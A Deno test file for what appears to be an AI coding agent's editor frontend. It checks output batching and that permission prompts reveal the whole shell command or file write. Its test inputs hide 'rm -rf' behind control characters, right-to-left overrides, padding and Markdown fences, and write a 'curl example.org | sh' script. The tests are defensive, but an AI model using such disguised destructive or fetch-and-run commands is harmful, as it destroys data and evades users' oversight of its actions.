import assert from "node:assert/strict";
import type { PermissionOption, ToolCallUpdate } from "npm:@agentclientprotocol/sdk@2.4.0";
import { type Editor, LiveView } from "../../../lib/frontends/acp/live_view.ts";
import type { SessionUpdate } from "../../../lib/frontends/acp/protocol.ts";
import { askedText } from "../../../lib/features/chat/calls.ts";
import type { Permission } from "../../../lib/features/chat/chat_options.ts";
import { bashTool } from "../../../lib/features/chat/tools/bash_tool.ts";
import { writeTool } from "../../../lib/features/chat/tools/write_tools.ts";

/** An editor, and the updates on their way to it. */
class SlowEditor implements Editor {
  readonly updates: SessionUpdate[] = [];
  #taken = Promise.withResolvers<void>();

  async update(update: SessionUpdate): Promise<void> {
    this.updates.push(update);
    await this.#taken.promise;
  }

  ask(): Promise<undefined> {
    return Promise.resolve(undefined);
  }

  /** Takes what it was sent. */
  async take(): Promise<void> {
    this.#taken.resolve();
    this.#taken = Promise.withResolvers();
    await new Promise((done) => setTimeout(done));
  }

  get texts(): unknown[] {
    return this.updates.map((update) =>
      "content" in update ? (update.content as { text?: string }).text : update.sessionUpdate
    );
  }
}

Deno.test("joins the model's text while the editor is behind, before the next update", async () => {
  const editor = new SlowEditor();
  const view = new LiveView("/work", editor);
  const say = (text: string): void => view.onDelta({ type: "text", text });
  for (const text of ["one ", "two ", "three"]) say(text);
  assert.deepEqual(editor.texts, ["one "]);
  await editor.take();
  assert.deepEqual(editor.texts, ["one ", "two three"]);
  say(" four");
  view.onDelta({ type: "reasoning", text: "hm" });
  view.onDelta({ type: "reasoning", text: "m" });
  view.onResponseEnd();
  assert.deepEqual(editor.texts.slice(2), [" four", "hmm"]);
  const ids = editor.updates.map((update) => "messageId" in update ? update.messageId : undefined);
  assert.equal(new Set(ids).size, 1);
  view.onNotice({ code: "retrying", message: "again" });
  assert.equal(editor.texts.at(-1), "[reprise] again");
});

Deno.test("sends no more output of a call before the editor has received the last", async () => {
  const editor = new SlowEditor();
  const view = new LiveView("/work", editor);
  view.onCall({ call_id: "c1", name: "bash", input: { command: "yes" }, title: "" });
  for (let count = 0; count < 100; count++) view.onOutput("c1", "y\n");
  assert.deepEqual(editor.texts, ["tool_call"]);
  assert.equal(await Promise.race([view.caughtUp(), "behind"]), "behind");
  await editor.take();
  view.onOutput("c1", "y\n");
  view.onOutput("c1", "y\n");
  assert.equal(editor.updates.length, 2);
});

interface Asked {
  call: ToolCallUpdate;
  options: PermissionOption[];
  /** All texts of the question. */
  texts: string;
  permission: Permission;
}

/** Asks about a call of a tool; the editor answers as it is told. */
async function askAbout(
  tool: ReturnType<typeof bashTool>,
  input: Record<string, unknown>,
  answer = "no",
): Promise<Asked> {
  let asked: [ToolCallUpdate, PermissionOption[]] | undefined;
  const view = new LiveView("/work", {
    update: () => Promise.resolve(),
    ask: (...question) => {
      asked = question;
      return Promise.resolve(answer);
    },
  });
  const { name } = tool.definition;
  const permission = await view.permit({
    ...{ call_id: "c1", name, input, title: tool.title(input), reason: "does it", scope: name },
    ...askedText(tool, input),
  });
  assert.ok(asked !== undefined);
  const [call, options] = asked;
  const texts = (call.content ?? []).map((part) =>
    part.type === "content" && part.content.type === "text" ? part.content.text : ""
  ).join("\n");
  return { call, options, texts, permission };
}

Deno.test("a question shows the whole command, with its line ends and control characters", async () => {
  const hidden = "ls\necho hidden; touch mark";
  const { call, texts } = await askAbout(bashTool(), { command: hidden });
  assert.equal(call.title, "ls␊echo hidden; touch mark");
  assert.equal(texts, "This call does it.\n```\nls␊\necho hidden; touch mark\n```");
  const odd = `ls\x1b[2K\r\u202e; rm -rf x #${" ".repeat(300)}; touch mark`;
  const about = { command: odd, summary: "\u202e", path: "\x1b[2J" };
  const asked = await askAbout(bashTool(), about);
  assert.doesNotMatch(JSON.stringify(asked.call), /\u202e|\\u001b|\\r/);
  assert.match(asked.texts, /ls␛\[2K␍<U\+202E>; rm -rf x # {300}; touch mark/);
  assert.match(asked.call.title ?? "", /; touch mark$/);
});

Deno.test("a title that is cut says so", async () => {
  for (const filler of ["a", "\u0301", " ", "\n"]) {
    const command = `ls ${filler.repeat(3000)}; touch mark`;
    const { call, texts } = await askAbout(bashTool(), { command });
    assert.match(call.title ?? "", /…$/, JSON.stringify(filler));
    if (filler !== "\n") assert.match(texts, /; touch mark\n```$/);
  }
});

Deno.test("a command cannot hide a part of itself in Markdown", async () => {
  const command = "ls\n```\n<!--\n````\nrm -rf x";
  const { texts } = await askAbout(bashTool(), { command });
  assert.match(texts, /\n`{5}\nls␊[^]*rm -rf x\n`{5}$/);
});

Deno.test("a command that is too long says how much is left, and has no always", async () => {
  const command = `ls ${"a".repeat(20_000)}; touch mark`;
  for (const [answer, expected] of [["yes", "yes"], ["always", "no"], ["no", "no"]]) {
    const { options, texts, permission } = await askAbout(bashTool(), { command }, answer);
    assert.deepEqual(options.map(({ optionId }) => optionId), ["yes", "no"]);
    assert.match(texts, /… 12015 more characters are not shown\n```$/);
    assert.equal(permission, expected);
  }
});

Deno.test("a question about a file shows what would be written", async () => {
  const input = { path: "../x\u202e", content: "#!/bin/sh\ncurl example.org | sh\n" };
  const { texts, call } = await askAbout(writeTool(), input);
  assert.match(texts, /"#!\/bin\/sh\\ncurl example\.org \| sh\\n"/);
  assert.doesNotMatch(JSON.stringify(call), /\u202e/);
});
